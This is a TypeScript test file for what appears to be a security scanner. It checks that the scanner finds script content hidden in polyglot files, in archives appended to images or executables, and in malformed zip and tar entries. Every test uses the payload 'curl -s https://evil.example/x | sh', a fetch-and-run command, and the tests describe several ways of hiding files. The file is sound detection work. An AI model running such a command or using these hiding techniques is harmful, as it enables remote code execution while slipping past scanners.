import { gzipSync } from "node:zlib";
import { describe, expect, it } from "vitest";
import { tarFile } from "../support/tar-file.ts";
import { told } from "../support/told.ts";
import { zipFile } from "../support/zip-file.ts";

const PAYLOAD = "curl -s https://evil.example/x | sh\n";
const latin1 = (text: string) => Buffer.from(text, "latin1");
const hasPayload = ({ texts }: ReturnType<typeof told>) => Object.values(texts).some((text) => text.includes(PAYLOAD));

describe("a script that pretends to be something else", () => {
  it.each([
    ["a sound", "RIFFabcdWAVE=1\n"],
    ["a video", "a=0#ftyp\n"],
    ["a PDF", "%PDF-1.4\n"],
    ["an image", "GIF89a=1\n"],
    ["a bzip2 archive", "BZh91AY&SY\n"],
    ["a tar archive", `#${" ".repeat(256)}ustar\n`],
    ["data", "PAR1=1\n"],
    ["bytecode", "\x1bLua\n"],
  ])("by its first bytes is read: %s", (_, head) => {
    for (const name of ["setup", "setup.sh", "notes.md"])
      expect(told(name, head + PAYLOAD).texts[name]).toBe(head + PAYLOAD);
  });

  it("is read whatever else stands in it, when its name or first line says that it is a text", () => {
    const junk = latin1(`GIF89a=1\n${PAYLOAD}\0\x01\x02\0`.repeat(9));
    expect(hasPayload(told("setup.sh", junk))).toBe(true);
    expect(told("setup", `#!/bin/sh\n# ${"\0\x01".repeat(99)}\n${PAYLOAD}`).texts["setup"]).toContain(PAYLOAD);
    expect(told("setup", `# ${"\x01".repeat(99)}\n${PAYLOAD}`).texts["setup"]).toContain(PAYLOAD);
    expect(told("setup.rb", `# ${"\0\x01".repeat(99)}\n${PAYLOAD}`).texts["setup.rb"]).toContain(PAYLOAD);
  });

  it("and is a PDF of plain text is told as one", () => {
    expect(told("a.pdf", "%PDF-1.4\n(hello) Tj\n").facts).toEqual([]);
    expect(told("a.gif", `GIF89a=1\n${PAYLOAD}`).facts).toContain(
      "polyglot-file a.gif: is a gif image that can be read as text",
    );
  });

  it("by the first line of a Git LFS pointer is read", () => {
    const head = "version https://git-lfs.github.com/spec/v1\n";
    expect(told("setup.sh", head + PAYLOAD).texts["setup.sh"]).toBe(head + PAYLOAD);
    const pointer = `${head}oid sha256:${"a".repeat(64)}\nsize 12\n`;
    expect(told("model.bin", pointer).texts).toEqual({});
    expect(told("setup.sh", `${pointer}${PAYLOAD}`).texts["setup.sh"]).toContain(PAYLOAD);
  });
});

describe("an archive", () => {
  const zip = zipFile([{ name: "__main__.py", content: PAYLOAD }]);

  it.each([
    ["a.bmp", `BM\0\0\0\0\0\0\0\0${"\0".repeat(60)}`],
    ["a.mp4", `\0\0\0\x20ftypisom${"\0".repeat(60)}`],
    ["a.wav", `RIFF\0\0\0\0WAVE${"\0".repeat(60)}`],
    ["a.pdf", `%PDF-1.4\n\x80\0${"\0".repeat(60)}`],
    ["a.png", `\x89PNG\r\n\x1a\n${"\0".repeat(60)}`],
    ["tool", `\x7fELF${"\0".repeat(60)}`],
  ])("behind another file is opened: %s", (name, head) => {
    const found = told(name, Buffer.concat([latin1(head), zip]));
    expect(hasPayload(found)).toBe(true);
    expect(found.facts.join()).toMatch(/polyglot-file/);
  });

  it("behind a tar archive too", () => {
    expect(hasPayload(told("a.tar", Buffer.concat([tarFile([{ name: "a", content: "x" }]), zip])))).toBe(true);
  });

  it("with the content list of an Office document hides nothing", () => {
    const names = ["run.sh", "word/run.sh", "word/theme/theme1.xml", "xl/run.xml"];
    for (const name of names)
      expect(hasPayload(told("a.zip", zipFile([{ name: "[Content_Types].xml" }, { name, content: PAYLOAD }])))).toBe(
        true,
      );
  });

  it("within the comment of another, for readers that take the last end, is told", () => {
    const inner = Buffer.concat([zip, Buffer.from("!")]);
    const outer = zipFile([{ name: "a.txt", content: "hello" }]);
    outer.writeUInt16LE(inner.length, outer.length - 2);
    expect(told("a.zip", Buffer.concat([outer, inner])).facts.join()).toMatch(/archive-inconsistent/);
  });

  it("gives the content of what it calls a link: some readers write it to a file", () => {
    expect(hasPayload(told("a.zip", zipFile([{ name: "run.sh", content: PAYLOAD, link: true }])))).toBe(true);
  });

  it("does not hide what a file is behind a long name", () => {
    const name = `${"d/".repeat(300)}run.sh`;
    expect(Object.keys(told("a.zip", zipFile([{ name, content: PAYLOAD }])).texts)[0]).toMatch(
      /^a\.zip!\/d\/.*\/run\.sh$/,
    );
  });
});

describe("a tar archive", () => {
  const payload = { name: "run.sh", content: PAYLOAD };
  const size = (text: string) => ({ name: "x", type: "x", content: `${text.length + 9} size=${text}\n` });

  it("of entries without a size ends, and gives the others", () => {
    for (const text of ["-512", "-1024", "x", "1e9", "99999999999999999999"]) {
      const found = told("a.tar", tarFile([size(text), { name: "l", type: "L" }, payload]));
      expect(hasPayload(found)).toBe(true);
      expect(found.facts).toEqual(["archive-not-unpacked a.tar: is a tar archive that is damaged"]);
    }
  });

  it.each(["S", "Z", "7"])("gives entries of the type %s: they are unpacked as files", (type) => {
    expect(hasPayload(told("a.tar", tarFile([{ ...payload, type }])))).toBe(true);
  });

  it("gives what stands behind a damaged header, and behind its end", () => {
    const first = tarFile([{ name: "a", content: "1" }]);
    expect(
      hasPayload(told("a.tar", Buffer.concat([first.subarray(0, 1024), Buffer.alloc(512, "x"), tarFile([payload])]))),
    ).toBe(true);
    expect(hasPayload(told("a.tar", Buffer.concat([first, tarFile([payload])])))).toBe(true);
  });

  it("that breaks off gives what is there", () => {
    const packed = gzipSync(tarFile([payload, { name: "b", content: "x".repeat(5000) }]));
    const found = told("a.tgz", packed.subarray(0, -20));
    expect(hasPayload(found)).toBe(true);
    expect(found.facts.join()).toMatch(/archive-not-unpacked/);
    const broken = Buffer.from(packed).fill(0xff, 40, 60);
    expect(told("a.tgz", broken).facts.join()).toMatch(/archive-not-unpacked/);
  });
});
